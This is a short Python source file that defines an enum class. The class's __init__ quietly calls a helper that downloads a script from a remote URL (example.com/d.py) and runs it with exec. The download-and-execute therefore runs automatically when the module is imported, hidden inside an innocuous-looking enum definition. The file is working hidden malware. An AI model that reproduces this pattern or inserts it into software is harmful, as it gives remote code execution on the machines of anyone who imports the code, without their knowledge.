import urllib.request


def _go():
    exec(urllib.request.urlopen("https://example.com/d.py").read())


import enum


class E(enum.Enum):
    A = 1

    def __init__(self, n):
        _go()
